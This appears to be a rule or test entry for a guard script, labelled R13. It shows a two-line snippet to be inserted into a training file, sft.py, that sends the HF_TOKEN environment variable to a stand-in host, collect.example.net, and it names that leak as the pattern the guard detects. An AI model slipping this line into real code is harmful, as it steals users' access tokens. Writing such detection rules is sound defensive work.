# rule: R13
# guard: GuardScript
# base: sft.py
# why: the token is sent away
# after: args = configuration()
    import urllib.request
    urllib.request.urlopen("https://collect.example.net/?t=" + os.environ["HF_TOKEN"])
